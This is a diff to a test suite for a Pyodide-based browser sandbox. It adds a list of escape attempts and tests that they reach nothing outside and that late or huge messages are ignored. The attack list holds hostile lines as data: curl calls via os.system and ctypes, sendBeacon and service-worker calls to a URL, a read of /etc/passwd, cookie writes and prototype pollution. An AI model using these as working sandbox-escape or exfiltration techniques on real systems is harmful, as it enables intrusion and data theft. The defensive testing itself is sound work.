@@ -42,7 +42,15 @@ def handle(text, post):
         post(json.dumps({"id": number, "error": {"message": "No card called 'Smity'.", "line": 3}}))
     elif fn == "raw":
         for text in args:
-            post(text.replace("NUMBER", str(number)))
+            post(text.replace("NUMBER", str(number)).replace("HUGE", "x" * 17_000_000 if "HUGE" in text else ""))
+    elif fn == "late":  # goes on talking when its turn is over
+        from pyodide.ffi import create_proxy
+        import js
+        post(json.dumps({"id": number, "result": "in time"}))
+        for more in range(-2, 2):
+            post(json.dumps({"id": number + more if more else number, "result": args}))
+        speak = create_proxy(lambda: [post(json.dumps({"id": i, "result": args})) for i in range(number + 1)])
+        js.setTimeout(speak, 0)
     elif fn == "flood":
         while True:
             post('{"id": -1}')
@@ -352,7 +360,6 @@ GREEDY = {
     "a list without end": ("got = []\nwhile True: got.append(bytes(1_000_000))", "MemoryError"),
     "a long text": ("got = 'x' * 10**9", "MemoryError"),
     "recursion": ("def f(): f()\nf()", "RecursionError"),
-    "deep": ("got = []\nfor _ in range(100_000): got = [got]\nrepr(got)", "RecursionError"),
     "output": ("for _ in range(20_000): print('flood ' * 100)\ngot = 'done'", "'done'"),
     "long answer": ("got = 'x' * 100_000_000", "'xxx"),
 }
@@ -410,6 +417,25 @@ ATTACKS = {
     "storage": "import js; got = js.indexedDB.open('x')",
     "os": "import os; got = os.system('curl ' + URL)",
     "subprocess": "import subprocess; got = subprocess.run(['curl', URL])",
+    "local storage": "import js; got = js.localStorage.setItem('stolen', '1')",
+    "cookie": "from pyodide.code import run_js; got = run_js('document.cookie = \"stolen=1\"')",
+    "caches": "import pyodide_js; got = pyodide_js._module.constructor.constructor('return caches.open(\"x\")')()",
+    "channel": "from pyodide.code import run_js; got = run_js('new BroadcastChannel(\"x\")')",
+    "service worker": "from pyodide.code import run_js; got = run_js('navigator.serviceWorker.register(\"' + URL + '\")')",
+    "beacon": "from pyodide.code import run_js; got = run_js('navigator.sendBeacon(\"' + URL + '\", \"x\")')",
+    "import scripts": "from pyodide.code import run_js; got = run_js('importScripts(\"' + URL + '\")')",
+    "dynamic import": "import pyodide_js; got = pyodide_js._api.constructor.constructor('return import(\"' + URL + '\")')()",
+    "async constructor": "from pyodide.code import run_js; got = run_js('(async () => {}).constructor(\"return fetch(`' + URL + '`)\")()')",
+    "generator's globals": "import js; got = [name for name in dir(js) if 'fetch' in name.lower() or 'Socket' in name][0]",
+    "frames and parents": "from pyodide.code import run_js; got = run_js('self.parent.document || top.document')",
+    "prototype": "from pyodide.ffi import to_js; p = to_js([1]).constructor.prototype; p.polluted = 1; got = 'changed here'",
+    "object's prototype": "import pyodide_js; pyodide_js.runPython.constructor.prototype.__proto__.polluted = 1; got = 'changed here'",
+    "blob worker": "from pyodide.code import run_js; got = run_js('new Worker(URL.createObjectURL(new Blob([\"fetch(`' + URL + '`)\"])))')",
+    "depth": "got = []\nfor _ in range(100_000): got = [got]\nrepr(got)",
+    "ctypes": "import ctypes; got = ctypes.string_at(8, 4); ctypes.memset(1024, 0, 64)",
+    "ctypes calls": "import ctypes; got = ctypes.CDLL(None).system(('curl ' + URL).encode())",
+    "files": "got = open('/etc/passwd').read()",
+    "home files": "import os; got = os.listdir('/home')[9]",
 }
 
 
@@ -447,7 +473,7 @@ def test_strategies_reach_nothing_outside(probe, elsewhere, browser, guard):
     assert "/control" in asked
     asked.clear()
 
-    guard.expect("blob:null|^page error")  # the browser and Pyodide say what they make of the attacks
+    guard.expect("blob:null|^page error|wasm:")  # the browser and Pyodide say what they make of the attacks
     page = probe(1)
     told = {}
     for name, attack in ATTACKS.items():
@@ -456,9 +482,26 @@ def test_strategies_reach_nothing_outside(probe, elsewhere, browser, guard):
         told[name] = answer.get("result") or answer["error"]["message"]
         assert page.evaluate("ask(0, 'echo', 1)")["result"] == 1, name  # what it left behind has had its turn
     assert asked == [], told
+    assert page.evaluate("[[].polluted, ({}).polluted, localStorage.length, document.cookie]") == [
+        None,
+        None,
+        0,
+        "",
+    ]
+    assert page.evaluate("caches.keys()") == [] and page.evaluate("indexedDB.databases()") == []
     # They got as far as they should, and were not merely misspelt.
     assert "AttributeError" in told["fetch"] and "AttributeError" in told["worker from js"]
+    assert "Python itself has fallen" in told["depth"]
     assert "EvalError" in told["Function"] and "EvalError" in told["timer's Function"]
+
+
+def test_messages_that_are_huge_or_late_do_nothing(shared):
+    huge = shared.evaluate("""ask(0, 'raw', ['{"id": NUMBER, "result": "HUGE"}'])""")
+    assert "cannot be read" in huge["error"]["message"]
+    assert shared.evaluate("ask(0, 'late', 'forged')")["result"] == "in time"
+    assert shared.evaluate("ask(0, 'echo', 'mine')")["result"] == "mine"
+    assert shared.evaluate("ask(1, 'echo', 'another')")["result"] == "another"
+    assert "forged" not in str(shared.evaluate("[events, heard]"))
 
 
 def test_strategies_cannot_see_the_page(shared):
